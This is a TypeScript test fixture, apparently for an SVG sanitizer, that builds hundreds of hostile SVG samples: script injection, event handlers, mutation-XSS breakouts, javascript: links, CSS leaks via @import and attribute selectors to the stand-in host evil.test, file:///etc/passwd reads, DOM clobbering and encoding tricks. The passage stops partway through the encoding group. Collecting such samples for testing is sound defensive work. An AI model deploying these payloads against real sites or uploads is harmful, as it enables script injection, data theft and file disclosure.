import type { Attack, HostileDocument } from './hostile-document.ts';
import { HOSTILE_EXTREMES } from './hostile-extremes.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XL = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const HTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const SHAPE = '<rect width="24" height="24" fill="teal"/>';
const JS = 'javascript:alert(1)';
const EVIL = 'http://evil.test';

function svg(inside: string, attributes = ''): string {
  return `<svg ${NS} ${XL} width="24" height="24" viewBox="0 0 24 24" ${attributes}>${SHAPE}${inside}</svg>`;
}

function group(attack: Attack, sources: Readonly<Record<string, string | Uint8Array>>): HostileDocument[] {
  return Object.entries(sources).map(([title, source]) => ({ attack, title, source }));
}

function each(names: string, document: (name: string) => string): Record<string, string> {
  return Object.fromEntries(
    names
      .trim()
      .split(/\s+/)
      .map((name) => [name, document(name)]),
  );
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

const scripts = group('script', {
  plain: svg('<script>alert(1)</script>'),
  first: `<svg ${NS}><script>alert(1)</script>${SHAPE}</svg>`,
  'as the root': `<script ${NS}>alert(1)</script>`,
  CDATA: svg('<script><![CDATA[alert(1)]]></script>'),
  entities: svg('<script>&#97;lert(1)</script>'),
  typed: svg('<script type="application/ecmascript">alert(1)</script>'),
  module: svg('<script type="module">alert(1)</script>'),
  'from another host': svg(`<script href="${EVIL}/x.js"/>`),
  'from another host by xlink': svg(`<script xlink:href="${EVIL}/x.js"/>`),
  'in a data address': svg('<script href="data:text/javascript,alert(1)"/>'),
  'in a data address by xlink': svg(
    `<script xlink:href="data:text/javascript;base64,${base64('alert(1)')}"/>`,
  ),
  'with another prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  'of XHTML': svg(`<script ${HTML}>alert(1)</script>`),
  'of XHTML with a prefix': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  'in defs': svg('<defs><script>alert(1)</script></defs>'),
  'in a symbol that is used': svg('<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>'),
  'in a dropped element': svg('<metadata><script>alert(1)</script></metadata>'),
  'in a switch': svg('<switch><script>alert(1)</script></switch>'),
  'in a title': svg('<title><script>alert(1)</script></title>'),
  'in a desc': svg(`<desc><script ${HTML}>alert(1)</script></desc>`),
  'in text': svg('<text><script>alert(1)</script></text>'),
  'in a nested svg': svg(`<svg ${NS}><script>alert(1)</script></svg>`),
  'in a pattern': svg('<pattern id="p"><script>alert(1)</script></pattern>'),
  'set by animation': svg(`<script id="s"/><set href="#s" attributeName="href" to="data:,alert(1)"/>`),
  'after the root': `${svg('')}<script ${NS}>alert(1)</script>`,
  'split by a comment': svg('<scr<!-- -->ipt>alert(1)</script>'),
  'without namespace': `<svg><script>alert(1)</script>${SHAPE}</svg>`,
  'handler element of SVG Tiny': svg(
    '<handler type="text/javascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">alert(1)</handler>',
  ),
});

const handlers = group('handler', {
  ...each(
    `onload onclick onmouseover onmousemove onmouseenter onpointerover onpointerenter onfocusin onfocus onactivate onbegin onend onrepeat
    onscroll onresize onzoom onunload onabort onwheel oncopy onpaste onkeydown onanimationstart ontransitionend onfocusout
    onpointerrawupdate onbeforetoggle oncontentvisibilityautostatechange`,
    (name) =>
      svg(
        `<g ${name}="alert(1)" tabindex="0" style="animation:x 1s">${SHAPE}</g>`,
        `${name}="alert(1)" tabindex="1"`,
      ),
  ),
  'onerror of an image': svg('<image href="x:x" onerror="alert(1)"/>'),
  'onload of an image': svg(
    `<image href="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="alert(1)" onerror="alert(1)"/>`,
  ),
  'onload of a style sheet': svg('<style onload="alert(1)">a{}</style>'),
  'onload of a use': svg('<use href="#x" onload="alert(1)" onerror="alert(1)"/>'),
  'onbegin of an animation': svg('<animate attributeName="x" dur="1s" onbegin="alert(1)" onend="alert(1)"/>'),
  'onend of a set': svg('<set attributeName="x" to="1" dur="0.1s" onend="alert(1)" onbegin="alert(1)"/>'),
  'in capitals': svg('<g ONLOAD="alert(1)" OnClick="alert(1)"/>'),
  'with a line break before the equals sign': svg('<g onload\n=\n"alert(1)"/>'),
  'with entities': svg('<g onload="&#x61;lert&#40;1)"/>', 'onload="&#97;lert(1)"'),
  'onfocus with autofocus': svg(
    '<g tabindex="1" autofocus="" onfocus="alert(1)"/>',
    'tabindex="1" autofocus="" onfocus="alert(1)"',
  ),
  'in the XML Events namespace': svg(
    '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#h" ev:onclick="alert(1)"/>',
  ),
  'of a dropped link': svg(`<a href="#" onclick="alert(1)">${SHAPE}</a>`),
  'with a prefix for SVG': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"><s:rect width="9" height="9" onclick="alert(1)"/></s:svg>`,
});

const foreign = group('foreign content', {
  ...each(
    'iframe embed object video audio img input form button base meta link style template noscript textarea select plaintext xmp noembed noframes frameset isindex marquee details portal',
    (name) =>
      svg(
        `<${name} ${HTML} src="${JS}" data="${JS}" href="${EVIL}/x" action="${JS}" onerror="alert(1)" ontoggle="alert(1)" onstart="alert(1)" open="" autofocus="" onfocus="alert(1)"/>`,
      ),
  ),
  'foreignObject with a page': svg(
    `<foreignObject width="24" height="24"><body ${HTML}><img src="${EVIL}/i.png" onerror="alert(1)"/></body></foreignObject>`,
  ),
  'foreignObject with a frame': svg(`<foreignObject><iframe ${HTML} src="${JS}"/></foreignObject>`),
  'foreignObject in lower case': svg(
    `<foreignobject><img ${HTML} src="x:x" onerror="alert(1)"/></foreignobject>`,
  ),
  'foreignObject in a switch': svg(
    `<switch><foreignObject width="9" height="9"><p ${HTML} onclick="alert(1)">x</p></foreignObject></switch>`,
  ),
  'foreignObject with a form': svg(
    `<foreignObject width="24" height="24"><form ${HTML} action="${EVIL}"><input autofocus="" onfocus="alert(1)"/></form></foreignObject>`,
  ),
  'MathML link': svg(`<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="${JS}">x</mtext></math>`),
  'MathML annotation': svg(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><img ${HTML} src="x:x" onerror="alert(1)"/></annotation-xml></math>`,
  ),
  'MathML action': svg(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="${JS}">x</maction></math>`,
  ),
  'XSLT style': `<?xml-stylesheet type="text/xsl" href="#x"?>${svg('<xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>alert(1)</script></xsl:template></xsl:stylesheet>')}`,
  XInclude: svg(
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
  ),
  'image in prose': svg('<text><img src="x:x" onerror="alert(1)"/></text>'),
  'HTML by prefix in title': svg(
    '<title><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x:x" onerror="alert(1)"/></title>',
  ),
  'SMIL of another namespace': svg(
    '<t:set xmlns:t="http://www.w3.org/2001/SMIL20" attributeName="innerHTML" to="&lt;img src=x onerror=alert(1)&gt;"/>',
  ),
  VML: svg('<v:vmlframe xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.test/x"/>'),
});

const mutations = group('mutation', {
  'title that ends early': svg('<title>&lt;/title>&lt;img src=x:x onerror=alert(1)></title>'),
  'desc that ends early': svg('<desc>&lt;/desc>&lt;/svg>&lt;img src=x:x onerror=alert(1)></desc>'),
  'text that ends early': svg('<text>&lt;/text>&lt;/svg>&lt;img src=x:x onerror=alert(1)></text>'),
  'text in CDATA': svg('<text><![CDATA[</text></svg><img src=x:x onerror=alert(1)>]]></text>'),
  'CDATA between elements': svg('<![CDATA[</svg><img src=x:x onerror=alert(1)>]]>'),
  'style that ends early': svg('<style>&lt;/style>&lt;img src=x:x onerror=alert(1)></style>'),
  'style in CDATA that ends early': svg(
    '<style><![CDATA[</style></svg><img src=x:x onerror=alert(1)>]]></style>',
  ),
  'style with a comment that ends early': svg(
    '<style>/*<![CDATA[</style><img src=x:x onerror=alert(1)>]]>*/</style>',
  ),
  'attribute that ends early': svg(
    `<g id='"&gt;&lt;img src=x:x onerror=alert(1)&gt;'/><use href='#"&gt;&lt;img src=x:x onerror=alert(1)&gt;'/>`,
  ),
  'label that ends early': svg(`<g aria-label='"&gt;&lt;img src=x:x onerror=alert(1)&gt;' role="img"/>`),
  'backtick at the end': svg('<g aria-label="`&lt;img src=x:x onerror=alert(1)&gt;"/>'),
  'comment that ends early': svg('<!--></svg><img src=x:x onerror=alert(1)> -->'),
  'comment with a bang': svg('<!-- --!></svg><img src=x:x onerror=alert(1)> -->'),
  'processing instruction that ends early': svg('<?x ></svg><img src=x:x onerror=alert(1)>?>'),
  'breakout element': svg(`<p>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>"></p>`),
  ...Object.fromEntries(
    'b big blockquote body br center code dd div dl em font h1 hr i img li nobr ol p pre s small span strong sub table tt u ul var'
      .split(' ')
      .map((name) => [
        `breakout by ${name}`,
        svg(
          `<${name} color="x" id="&lt;img src=x:x onerror=alert(1)>"><style>&lt;/style>&lt;img src=x:x onerror=alert(1)></style></${name}>`,
        ),
      ]),
  ),
  'nested title and style': svg('<title><style>&lt;/title>&lt;img src=x:x onerror=alert(1)></style></title>'),
  'style in desc in svg': svg(
    '<svg><desc><style><a xmlns="http://www.w3.org/1999/xhtml" title="&lt;/style>&lt;img src=x:x onerror=alert(1)>"/></style></desc></svg>',
  ),
  'MathML and style': svg(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mglyph><style>&lt;/math>&lt;img src=x:x onerror=alert(1)></style></mglyph></math>`,
  ),
  'noscript in title': svg(
    '<title><noscript>&lt;/noscript>&lt;img src=x:x onerror=alert(1)></noscript></title>',
  ),
  'textarea in text': svg(
    '<text><textarea>&lt;/textarea>&lt;img src=x:x onerror=alert(1)></textarea></text>',
  ),
  'template in desc': svg('<desc><template>&lt;img src=x:x onerror=alert(1)></template></desc>'),
  'deep nesting that parsers flatten': svg(
    `${'<g>'.repeat(600)}<title><style>&lt;/style>&lt;img src=x:x onerror=alert(1)></style></title>${'</g>'.repeat(600)}`,
  ),
  'font name that ends early': svg(`<text font-family='"&gt;&lt;img src=x:x onerror=alert(1)&gt;'>x</text>`),
  'keyframes that end early': svg(
    '<style>@keyframes a{&lt;/style>&lt;img src=x:x onerror=alert(1)>{to{x:1}}}</style><g style="animation:a 1s"/>',
  ),
  'doubly escaped entity': svg('<text>&amp;lt;img src=x:x onerror=alert(1)&amp;gt;</text>'),
  'namespace that changes in a child': svg(
    `<g xmlns="http://www.w3.org/1999/xhtml"><img src="x:x" onerror="alert(1)"/></g>`,
  ),
  'prefix svg for HTML': `<svg ${NS} xmlns:svg="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9">${SHAPE}<svg:img src="x:x" onerror="alert(1)"/></svg>`,
});

const links = group('link', {
  'to a script': svg(`<a href="${JS}">${SHAPE}</a>`),
  'to a script by xlink': svg(`<a xlink:href="${JS}">${SHAPE}</a>`),
  'to a script with a tab inside': svg(`<a href="java&#9;script:alert(1)">${SHAPE}</a>`),
  'to a script after a control character': svg(`<a href=" &#10;javascript:alert(1)">${SHAPE}</a>`),
  'to a script in capitals': svg(`<a href="JaVaScRiPt:alert(1)">${SHAPE}</a>`),
  'to a script with entities': svg(`<a href="&#106;avascript&#58;alert(1)">${SHAPE}</a>`),
  'to a page': svg(`<a href="${EVIL}/page">${SHAPE}</a>`),
  'to a page in another window': svg(`<a href="${EVIL}/page" target="_blank" rel="opener">${SHAPE}</a>`),
  'to a page in the top window': svg(
    `<a xlink:href="${EVIL}/page" target="_top" xlink:show="replace">${SHAPE}</a>`,
  ),
  'to a data page': svg(`<a href="data:text/html,&lt;script>alert(1)&lt;/script>">${SHAPE}</a>`),
  'to a vbscript': svg(`<a href="vbscript:msgbox(1)">${SHAPE}</a>`),
  'that downloads': svg(`<a href="${EVIL}/x.exe" download="x.exe">${SHAPE}</a>`),
  'with a ping': svg(`<a href="#" ping="${EVIL}/ping">${SHAPE}</a>`),
  'around text': svg(`<text y="20" font-size="24"><a href="${JS}"><tspan>click</tspan></a></text>`),
  animated: svg(`<a id="l"><animate attributeName="href" values="${JS}"/>${SHAPE}</a>`),
  'animated from outside': svg(
    `<a id="l">${SHAPE}</a><animate href="#l" attributeName="href" to="${JS}" fill="freeze"/>`,
  ),
  'set by xlink': svg(`<a id="l">${SHAPE}<set attributeName="xlink:href" to="${JS}"/></a>`),
  'by mathml': svg(`<g xlink:href="${JS}" xlink:type="simple" href="${JS}">${SHAPE}</g>`),
  'by xml:base': svg(`<a href="#x" xml:base="${JS}//">${SHAPE}</a>`),
  'by view': svg(`<a href="#v">${SHAPE}</a><view id="v" viewBox="0 0 1 1" viewTarget="${JS}"/>`),
  'in a use of a link': svg(`<defs><a id="l" href="${JS}">${SHAPE}</a></defs><use href="#l"/>`),
  'by refresh': svg(`<meta ${HTML} http-equiv="refresh" content="0;url=${EVIL}/refresh"/>`),
});

const loads = group('load', {
  image: svg(`<image href="${EVIL}/i.png" width="9" height="9"/>`),
  'image by xlink': svg(`<image xlink:href="${EVIL}/i.png" width="9" height="9"/>`),
  'image without scheme': svg('<image href="//evil.test/i.png" width="9" height="9"/>'),
  'image of a file': svg('<image href="file:///etc/passwd" width="9" height="9"/>'),
  'image of an SVG in a data address': svg(
    `<image href="data:image/svg+xml;base64,${base64(`<svg ${NS} onload="alert(1)"/>`)}" width="9" height="9"/>`,
  ),
  'picture followed by a script': svg(
    `<image href="data:image/gif;base64,${base64('GIF89a/*\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;*/=1;alert(1)</script><script>alert(1)</script>')}" width="9" height="9"/>`,
  ),
  'picture with a script as its type': svg(
    `<image href="data:image/png;base64,${base64('GIF89a')}&quot; onload=&quot;alert(1)" width="9" height="9"/>`,
  ),
  'picture with a page as a parameter': svg(
    '<image href="data:image/png;a=<script>;base64,iVBORw0KGgo=" width="9" height="9"/>',
  ),
  'picture of a page': svg(
    `<image href="data:text/html;base64,${base64('<script>alert(1)</script>')}" width="9" height="9"/>`,
  ),
  'picture by a blob': svg('<image href="blob:http://icons.test/1" width="9" height="9"/>'),
  'picture in capitals, by a line break': svg(
    `<image href="DATA:IMAGE/SVG+XML;BASE64,${base64(`<svg ${NS} onload="alert(1)"/>`)}" width="9" height="9"/><image xlink:href="da&#10;ta:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>`,
  ),
  'filter picture of an SVG': svg(
    `<filter id="f"><feImage href="data:image/svg+xml;base64,${base64(`<svg ${NS} onload="alert(1)"/>`)}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  'filter picture of itself': svg(
    '<filter id="f"><feImage href="#r"/></filter><rect id="r" width="9" height="9" filter="url(#f)"/>',
  ),
  'image with all attributes of an HTML img': svg(
    `<image href="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=" srcset="${EVIL}/i.png 2x" onload="alert(1)" onerror="alert(1)" crossorigin="anonymous" style="content:url(${EVIL}/c.png)" width="9" height="9"/>`,
  ),
  'animated address of a picture': svg(
    `<image width="9" height="9" href="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs="><set attributeName="href" to="${EVIL}/i.png"/><animate attributeName="xlink:href" values="${EVIL}/i.png;${EVIL}/j.png"/></image>`,
  ),
  'image that claims to be PNG': svg(
    `<image href="data:image/png;base64,${base64('<script>alert(1)</script>')}" width="9" height="9"/>`,
  ),
  'filter image': svg(
    `<filter id="f"><feImage href="${EVIL}/i.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'filter image by xlink': svg(
    `<filter id="f"><feImage xlink:href="${EVIL}/i.svg#x"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'use of a file': svg(`<use href="${EVIL}/u.svg#x"/>`),
  'use of a file by xlink': svg(`<use xlink:href="${EVIL}/u.svg#x"/>`),
  'use of a data address': svg(
    `<use href="data:image/svg+xml;base64,${base64(`<svg ${NS}><g id="x" onclick="alert(1)"/></svg>`)}#x"/>`,
  ),
  'use with base': svg('<use href="u.svg#x"/>', `xml:base="${EVIL}/"`),
  ...Object.fromEntries(
    'fill stroke filter mask clip-path marker-start marker-mid marker-end cursor'
      .split(' ')
      .flatMap((name) => [
        [`${name} attribute`, svg(`<path d="M1 1h9v9z" ${name}="url(${EVIL}/r.svg#x)"/>`)],
        [`${name} style`, svg(`<path d="M1 1h9v9z" style="${name}:url('${EVIL}/r.svg#x')"/>`)],
      ]),
  ),
  'fill with spaces and quotes': svg(
    `<rect width="9" height="9" fill="url( &quot;${EVIL}/r.svg#x&quot; ) red"/>`,
  ),
  'fill of a data address': svg(`<rect width="9" height="9" fill="url(data:image/svg+xml,%3Csvg/%3E#x)"/>`),
  'gradient of a file': svg(
    `<linearGradient id="g" href="${EVIL}/g.svg#x"/><rect width="9" height="9" fill="url(#g)"/>`,
  ),
  'pattern of a file': svg(
    `<pattern id="g" xlink:href="${EVIL}/g.svg#x"/><rect width="9" height="9" fill="url(#g)"/>`,
  ),
  'text path of a file': svg(`<text><textPath href="${EVIL}/g.svg#x">x</textPath></text>`),
  'motion path of a file': svg(
    `<rect width="9" height="9"><animateMotion dur="1s"><mpath href="${EVIL}/g.svg#x"/></animateMotion></rect>`,
  ),
  tref: svg(`<text><tref xlink:href="${EVIL}/g.svg#x"/></text>`),
  'font face element': svg(
    `<font-face font-family="x"><font-face-src><font-face-uri xlink:href="${EVIL}/f.svg#x"/></font-face-src></font-face><text font-family="x">x</text>`,
  ),
  'color profile': svg(`<color-profile name="x" xlink:href="${EVIL}/c.icc"/>`),
  'cursor element': svg(
    `<cursor id="c" xlink:href="${EVIL}/c.png"/><rect width="9" height="9" cursor="url(#c)"/>`,
  ),
  'external style sheet': `<?xml-stylesheet href="${EVIL}/s.css" type="text/css"?>${svg('')}`,
  'HTML link to a style sheet': svg(`<link ${HTML} rel="stylesheet" href="${EVIL}/s.css"/>`),
  'source set': svg(`<image srcset="${EVIL}/i.png 1x" width="9" height="9"/>`),
  audio: svg(`<audio xlink:href="${EVIL}/a.mp3"/><video xlink:href="${EVIL}/v.mp4"/>`),
  'mask image': svg(
    `<rect width="9" height="9" style="mask-image:url(${EVIL}/m.png);-webkit-mask:url(${EVIL}/m.png)"/>`,
  ),
});

const styles = group('style', {
  import: svg(`<style>@import url(${EVIL}/s.css);</style>`),
  'import of a string': svg(`<style>@import "${EVIL}/s.css";</style>`),
  'import with escapes': svg(String.raw`<style>@\69mport "http://evil.test/s.css";</style>`),
  'import hidden by comments': svg(`<style>/**/@import/**/"${EVIL}/s.css";</style>`),
  'import in CDATA': svg(`<style><![CDATA[@import "${EVIL}/s.css";]]></style>`),
  'import after an escaped brace': svg(String.raw`<style>a\{}@import "http://evil.test/s.css";</style>`),
  'background of all elements': svg(`<style>*{background:url(${EVIL}/b.png)}</style>`),
  'background of the page': svg(`<style>body,html{background:url(${EVIL}/b.png)!important}</style>`),
  'background with escapes': svg(String.raw`<style>*{background:u\72l(http://evil.test/b.png)}</style>`),
  'image set': svg(`<style>*{background-image:image-set("${EVIL}/b.png" 1x)}</style>`),
  'image function': svg(`<style>*{background-image:image("${EVIL}/b.png")}</style>`),
  'cross fade': svg(
    `<style>*{background-image:-webkit-cross-fade(url(${EVIL}/a.png),url(${EVIL}/b.png),50%)}</style>`,
  ),
  'src function': svg(`<style>*{background-image:src("${EVIL}/b.png")}</style>`),
  'font face': svg(
    `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff2)}text{font-family:x}</style><text>x</text>`,
  ),
  'font face of the system': svg(
    `<style>@font-face{font-family:x;src:local("Secret"),url(${EVIL}/f)}text{font-family:x}</style><text>x</text>`,
  ),
  'leak by attribute selectors': svg(`<style>input[value^=a]{background:url(${EVIL}/a)}</style>`),
  'leak by visited links': svg(`<style>a:visited{background:url(${EVIL}/v)}</style>`),
  'leak by hover': svg(`<style>rect:hover{fill:url(${EVIL}/h.svg#x)}</style>`),
  'leak by has': svg(`<style>:has(input[value^=a]) rect{fill:url(${EVIL}/h.svg#x)}</style>`),
  'leak by content': svg(`<style>rect::before{content:url(${EVIL}/c.png)}</style>`),
  'leak by a variable': svg(`<style>:root{--u:url(${EVIL}/v.svg#x)}rect{fill:var(--u)}</style>`),
  'leak by a variable of the page': svg(
    `<rect width="9" height="9" style="fill:var(--secret-color,url(${EVIL}/v.svg#x))"/>`,
  ),
  'leak by a fallback in a fallback': svg(
    `<rect width="9" height="9" fill="var(--a,var(--b,url(${EVIL}/v.svg#x)))"/>`,
  ),
  'leak by keyframes': svg(
    `<style>@keyframes k{to{fill:url(${EVIL}/k.svg#x);background:url(${EVIL}/k.png)}}rect{animation:k 1s}</style>`,
  ),
  'leak by a list': svg(`<g style="display:list-item;list-style-image:url(${EVIL}/l.png)"/>`),
  'leak by shapes': svg(`<g style="shape-outside:url(${EVIL}/l.png);offset-path:url(${EVIL}/o.svg#x)"/>`),
  'leak by supports': svg(`<style>@supports (fill:red){*{background:url(${EVIL}/s.png)}}</style>`),
  'leak by media': svg(`<style>@media (min-width:1px){*{background:url(${EVIL}/m.png)}}</style>`),
  'leak by layers': svg(`<style>@layer a{*{background:url(${EVIL}/l.png)}}</style>`),
  'leak by nesting': svg(`<style>svg{rect{background:url(${EVIL}/n.png)}}</style>`),
  'leak by a property rule': svg(
    `<style>@property --x{syntax:"&lt;url>";inherits:true;initial-value:url(${EVIL}/p.png)}*{background:var(--x)}</style>`,
  ),
  'leak by a namespace rule': svg(
    `<style>@namespace url(${EVIL}/ns);*{background:url(${EVIL}/n.png)}</style>`,
  ),
  'leak by a document rule': svg(
    `<style>@-moz-document url-prefix(){*{background:url(${EVIL}/d.png)}}</style>`,
  ),
  expression: svg('<g style="width:expression(alert(1));x:ex/**/pression(alert(1))"/>'),
  behavior: svg(`<g style="behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#x)"/>`),
  'script address': svg(`<g style="fill:url(${JS});background:url(&quot;${JS}&quot;)"/>`),
  'script address with a break': svg('<g style="background:url(java&#10;script:alert(1))"/>'),
  'whole page hidden': svg('<style>*{display:none!important}</style>'),
  'whole page covered': svg(
    '<rect width="24" height="24"/>',
    'style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647"',
  ),
  'overflow over the page': svg(
    '<rect x="-9999" y="-9999" width="99999" height="99999"/>',
    'overflow="visible" style="overflow:visible!important"',
  ),
  'page-wide transform': svg('', 'transform="scale(500)" style="transform:scale(500)"'),
  'page-wide filter': svg(
    '<filter id="f" x="-9999%" y="-9999%" width="99999%" height="99999%"><feFlood flood-color="red"/></filter>',
    'filter="url(#f)" style="filter:drop-shadow(0 0 9999px red)"',
  ),
  'page-wide margins': svg(
    '',
    'style="margin:-9999px;padding:9999px;border:999px solid;outline:999px solid red;box-shadow:0 0 0 9999px red"',
  ),
  'page-wide size': svg('', 'style="width:9999px;height:9999px;min-width:9999px"'),
  'caught clicks': svg('<rect width="24" height="24" style="pointer-events:all;cursor:pointer;opacity:0"/>'),
  'style sheet that styles all elements': svg(
    '<style>body{visibility:hidden}.icon{fill:red}html{font-size:0}</style>',
  ),
  'unclosed sheet': svg(`<style>rect{fill:red;background:url(${EVIL}/u.png</style>`),
  'sheet with an HTML comment': svg(`<style>&lt;!-- @import "${EVIL}/s.css"; --&gt;</style>`),
  'charset before import': svg(`<style>@charset "utf-7";@import "${EVIL}/s.css";</style>`),
  'bad string': svg(`<style>rect{font-family:"\n;background:url(${EVIL}/x.png)}</style>`),
  'style declaration with braces': svg(
    `<rect width="9" height="9" style="fill:red;}*{background:url(${EVIL}/x.png)"/>`,
  ),
  'style of a dropped property in important': svg(
    `<rect width="9" height="9" style="cursor:url(${EVIL}/x.cur),auto!important"/>`,
  ),
});

const animations = group('animation', {
  ...Object.fromEntries(
    [
      'href',
      'xlink:href',
      'onclick',
      'onload',
      'style',
      'class',
      'id',
      'src',
      'target',
      'xmlns',
      'filter',
      'begin',
      'attributeName',
      'innerHTML',
      'cursor',
      'mask',
      'clip-path',
      'font-family',
    ].map((name) => [
      `of ${name}`,
      svg(
        `<a id="t" href="#">${SHAPE}<animate attributeName="${name}" values="${JS};url(${EVIL}/a.svg#x)" dur="1s" repeatCount="indefinite"/><set attributeName="${name}" to="${JS}"/></a>`,
      ),
    ]),
  ),
  'with spaces in the name': svg(`<a>${SHAPE}<animate attributeName=" href " to="${JS}" fill="freeze"/></a>`),
  'with a prefix for xlink': svg(
    `<a xmlns:y="http://www.w3.org/1999/xlink">${SHAPE}<set attributeName="y:href" to="${JS}"/></a>`,
  ),
  'of a paint from another host': svg(
    `<rect width="9" height="9"><animate attributeName="fill" values="red;url(${EVIL}/p.svg#x)" dur="1s" repeatCount="indefinite"/></rect>`,
  ),
  'set to a paint from another host': svg(
    `<rect width="9" height="9"><set attributeName="fill" to="url(${EVIL}/p.svg#x)"/></rect>`,
  ),
  'of an element of the page': svg(
    '<animate href="#login" attributeName="display" to="none" fill="freeze"/><set xlink:href="#login" attributeName="visibility" to="hidden"/>',
  ),
  'by a key': svg(
    '<rect width="9" height="9"><set attributeName="fill" to="red" begin="accessKey(a);accessKey(b)"/></rect>',
  ),
  'by the time of the day': svg(
    '<rect width="9" height="9"><set attributeName="fill" to="red" begin="wallclock(2030-01-01)"/></rect>',
  ),
  'by an event of the page': svg(
    '<rect width="9" height="9"><set attributeName="fill" to="red" begin="login.click;password.focusin"/></rect>',
  ),
  'by an event of a handler': svg(
    '<rect width="9" height="9"><set attributeName="fill" to="red" begin="x.onload;x.javascript:alert(1)"/></rect>',
  ),
  'of the size of the icon': svg(
    '<animate attributeName="width" to="9999" dur="1s" fill="freeze"/><animate attributeName="height" to="9999" dur="1s"/>',
  ),
  'of the transform of the icon': svg(
    '<animateTransform attributeName="transform" type="scale" to="500" dur="1s" fill="freeze"/>',
  ),
  'of a removed element': svg(`<discard begin="0s" href="#login" xlink:href="#login"/>`),
  'by an old color animation': svg(`<animateColor attributeName="href" to="${JS}"/>`),
  'by transitions of the page': svg(
    '<rect width="9" height="9" style="animation:page-fade-out 1s infinite;transition:all 1s"/>',
  ),
});

const pages = group('page', {
  ...Object.fromEntries(
    [
      'location',
      'document',
      'cookie',
      'body',
      'forms',
      'getElementById',
      'createElement',
      'attributes',
      'children',
      'parentNode',
      '__proto__',
      'constructor',
      'defaultView',
      'toString',
      'alert',
    ].map((name) => [
      `id ${name}`,
      svg(
        `<g id="${name}"><title>x</title></g><use href="#${name}"/><a id="${name}" name="${name}" href="${EVIL}/${name}"/>`,
      ),
    ]),
  ),
  'name and class': svg(
    '<g name="body" class="modal show" data-toggle="dropdown" data-bs-target="#x" hx-get="http://evil.test/hx" hx-trigger="load" x-data="{}" x-init="alert(1)" v-html="x" ng-init="x" data-controller="admin"/>',
  ),
  'custom elements': svg('<x-widget is="x-login"/><g is="x-login" slot="s" part="p"/>'),
  'label of another element': svg(
    '<g aria-labelledby="password" aria-describedby="credit-card" role="img"/>',
  ),
  'role of an alert': svg('<g role="alert" aria-live="assertive" aria-label="Your computer is infected"/>'),
  focus: svg('<g tabindex="1" focusable="true" autofocus="" contenteditable="true" draggable="true"/>'),
  accesskey: svg('<g accesskey="x" onclick="alert(1)"/>'),
  popover: svg('<g id="p" popover="" popovertarget="p" command="show-popover" commandfor="p"/>'),
});

const utf16 = (text: string, mark = true): Uint8Array =>
  Buffer.from((mark ? '\uFEFF' : '') + text, 'utf16le');
const script = svg('<script>alert(1)</script>');
const bytes = (...parts: (string | number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part))));

const encodings = group('encoding', {
  'UTF-16 with a mark': utf16(script),
  'UTF-16 without a mark': utf16(script, false),
  'UTF-16 that says UTF-8': utf16(`<?xml version="1.0" encoding="UTF-8"?>${script}`),
  'UTF-16, big end first': Buffer.from(utf16(script)).swap16(),
  'UTF-32': Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]),
  'UTF-7 declared': `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
  'UTF-7 undeclared': svg('<text>+ADw-img src=x:x onerror=alert(1)+AD4-</text>'),
  'ISO-2022 declared': `<?xml version="1.0" encoding="ISO-2022-JP"?>${script}`,
  'EBCDIC declared': `<?xml version="1.0" encoding="ebcdic-cp-us"?>${script}`,
  'overlong less-than': bytes(
    `<svg ${NS} viewBox="0 0 9 9">${SHAPE}`,
    [0xc0, 0xbc],
    'script>alert(1)</script></svg>',
  ),
  'overlong in three bytes': bytes(`<svg ${NS} viewBox="0 0 9 9"><g id="`, [0xe0, 0x80, 0xbc], '"/></svg>'),
  'lone surrogate in bytes': bytes(`<svg ${NS} viewBox="0 0 9 9"><g id="`, [0xed, 0xa0, 0x80], '"/></svg>'),
  'lone surrogate by reference': svg('<text>&#xD800;</text>'),
  'broken sequence before a quote': bytes(
    `<svg ${NS} viewBox="0 0 9 9"><g id="`,
    [0xe3, 0x81],
    '" onload="alert(1)"/></svg>',
  ),
  'null bytes': bytes(`<svg ${NS}><scr`, [0], 'ipt>alert(1)</scr', [0], 'ipt></svg>'),
  'null by reference': svg('<text>&#0;</text>'),
  'control by reference': svg('<text>&#1;&#x1b;[31m</text>'),
  'XML 1.1 controls': `<?xml version="1.1"?>${svg('<text>&#1;</text>')}`,
